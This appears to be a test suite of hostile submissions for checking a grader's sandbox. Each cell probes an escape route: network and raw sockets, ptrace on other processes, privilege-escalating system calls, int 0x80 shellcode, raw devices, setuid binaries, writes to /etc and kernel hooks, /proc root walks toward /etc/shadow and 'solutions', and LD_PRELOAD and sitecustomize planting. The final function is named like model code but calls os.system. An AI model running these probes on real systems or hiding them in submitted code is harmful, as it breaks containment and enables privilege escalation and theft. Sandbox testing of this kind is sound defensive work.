# Get out: to the network, to other processes, to the kernel.

# attack: network
# aim: send what it sees to somewhere else
# honest: 0
# %%
import socket

reached = []
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET, socket.AF_NETLINK):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
            reached.append(f"{family.name} {kind.name}")
        except OSError:
            pass
tell(*reached)

# attack: every_kind_of_socket
# aim: find one kind of socket that was forgotten
# honest: 0
# %%
import ctypes

libc = ctypes.CDLL(None)
tell(*[family for family in range(2, 48) for kind in (1, 2, 3, 5)
       if libc.socket(family, kind, 0) >= 0])

# attack: local_servers
# aim: talk to a server of this machine through its socket's file
# honest: 0
# %%
import glob
import os
import socket
import stat

reached = []
for place in ("/run/**", "/var/run/**", "/tmp/**", "/var/lib/**"):
    for path in glob.iglob(place, recursive=True):
        try:
            if stat.S_ISSOCK(os.stat(path).st_mode):
                line = socket.socket(socket.AF_UNIX)
                line.connect(path)
                reached.append(path)
        except OSError:
            pass
tell(*reached)

# attack: abstract_sockets
# aim: take the names by which graders of one machine keep apart
# honest: 0
# %%
import socket

kept = []
for user in range(64100, 64900):
    line = socket.socket(socket.AF_UNIX)
    try:
        line.bind(f"\0autograder-user-{user}")
        line.listen()
        kept.append(line)
    except OSError:
        line.close()

# attack: escalates
# aim: become another user, mount, trace, load
# honest: 0
# unprotected: no
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
won = []
for name, call in {
    "setuid": lambda: libc.setuid(0),
    "setresuid": lambda: libc.setresuid(0, 0, 0),
    "setgid": lambda: libc.setgid(0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "unshare": lambda: libc.unshare(0x10000000),
    "chroot": lambda: libc.chroot(b"/"),
    "keyctl": lambda: libc.syscall(250, 0, 0),
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "io_uring": lambda: 0 if libc.syscall(425, 1, b"\0" * 120) >= 0 else -1,
    "userns": lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0),
    "nice": lambda: libc.setpriority(0, 0, -5),
    "realtime": lambda: libc.sched_setscheduler(0, 1, b"\1\0\0\0"),
    "hostname": lambda: libc.sethostname(b"x", 1),
    "personality": lambda: libc.personality(0x0040000),
    "swapon": lambda: libc.swapon(b"/tmp/x", 0),
    "acct": lambda: libc.acct(None),
}.items():
    if call() == 0:
        won.append(name)
tell(*won)

# attack: traces_others
# aim: read and write the memory of other processes
# honest: 0
# unprotected: no
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
won = []
for pid in (os.getppid(), 1):
    if libc.ptrace(16, pid, 0, 0) == 0:
        won.append("ptrace")
    if libc.syscall(310, pid, b"\0" * 16, 1, b"\0" * 16, 1, 0) == 0:
        won.append("process_vm_readv")
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0 and libc.syscall(438, pidfd, 0, 0) >= 0:
        won.append("pidfd_getfd")
if libc.ptrace(0, 0, 0, 0) == 0:
    won.append("ptrace me")
tell(*won)

# attack: calls_of_32_bits
# aim: make system calls under the numbers of another architecture
# honest: 0
# %%
import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
    code = b"\x53\xb8\x67\x01\0\0\xbb\2\0\0\0\xb9\1\0\0\0\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                     mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call()
    if result >= 0:
        tell("int 0x80 made a network socket", result)

# attack: calls_of_x32
# aim: make system calls under the x32 numbers
# honest: 0
# %%
import ctypes

libc = ctypes.CDLL(None)
if libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0:
    tell("x32 made a network socket")

# attack: devices
# aim: make or open devices
# honest: 0
# unprotected: no
# %%
import os

won = []
for name in ("mem", "kmem", "port", "kmsg", "fuse", "ptmx", "tty", "sda", "vda", "nvme0n1", "loop0",
             "loop-control", "net/tun", "kvm", "userfaultfd", "vhost-net", "mapper/control", "rtc0"):
    try:
        os.close(os.open(f"/dev/{name}", os.O_RDWR))
        won.append(name)
    except OSError:
        pass
for place in (".", "/tmp", "/dev/shm"):
    try:
        os.mknod(f"{place}/node", 0o60666, os.makedev(254, 0))
        os.open(f"{place}/node", os.O_RDONLY)
        won.append("mknod")
    except OSError:
        pass
tell(*won)

# attack: setuid_files
# aim: gain by files that run as their owner
# honest: 0
# unprotected: no
# %%
import os
import shutil
import subprocess

won = []
for command in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"], ["pkexec", "id", "-u"],
                ["mount", "-t", "tmpfs", "none", "/tmp"], ["passwd", "-S"], ["newgrp"]):
    try:
        done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
    except (OSError, subprocess.TimeoutExpired):
        continue
    if done.returncode == 0 and done.stdout.strip() == b"0":
        won.append(command[0])
shutil.copy("/usr/bin/id", "mine")
os.chmod("mine", 0o6755)
if subprocess.run(["./mine", "-u"], capture_output=True).stdout.strip() == b"0":
    won.append("setuid")
tell(*won)

# attack: writes_outside
# aim: write where it should not
# honest: 0
# unprotected: no
# %%
import os

won = []
for path in ("/etc/planted", "/usr/planted", "/usr/lib/planted", "/bin/planted", "/planted",
             "/root/planted", "/var/planted", "/opt/planted", "/home/planted", "/run/planted",
             "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/sys/fs/cgroup/cgroup.procs"):
    try:
        os.close(os.open(path, os.O_WRONLY | (0 if path.startswith(("/proc", "/sys")) else os.O_CREAT)))
        won.append(path)
    except OSError:
        pass
tell(*won)

# attack: opens_by_handle
# aim: open a file by its number, past every mount
# honest: 0
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02" + b"\0" * 20, 64)
for place in ("/", "/usr", "/etc"):
    try:
        opened = libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
    except OSError:
        continue
    if opened >= 0:
        tell("open_by_handle_at", os.listdir(opened))

# attack: leaves_its_root
# aim: walk out of its root by descriptors, links and dots
# honest: 0
# %%
import os

found = []
for path in ("/proc/1/root/root", "/proc/self/root/../../../root", "../../../../../../root",
             "/proc/self/fd/3/../../root", "/proc/1/cwd", f"/proc/{os.getppid()}/root/etc/shadow"):
    try:
        inside = os.listdir(path) if os.path.isdir(path) else [open(path).read(10)]
    except OSError:
        continue
    found += [path] if any(name in (".ssh", ".bashrc", ".profile", "solutions") for name in inside) else []
tell(*found)

# attack: loads_a_library
# aim: have another program load its library
# honest: 0
# %%
import os

os.environ.update(LD_PRELOAD="./planted.so", PYTHONPATH=".", PYTHONSTARTUP="planted.py",
                  BASH_ENV="planted.sh", PYTHONINSPECT="1")
open("planted.py", "w").write("print('FOUND')")
open("sitecustomize.py", "w").write("open('/tmp/FOUND-sitecustomize', 'w')")


# %%
def unrolled_ssm_forward(W, U, b, x):
    return os.system("true")
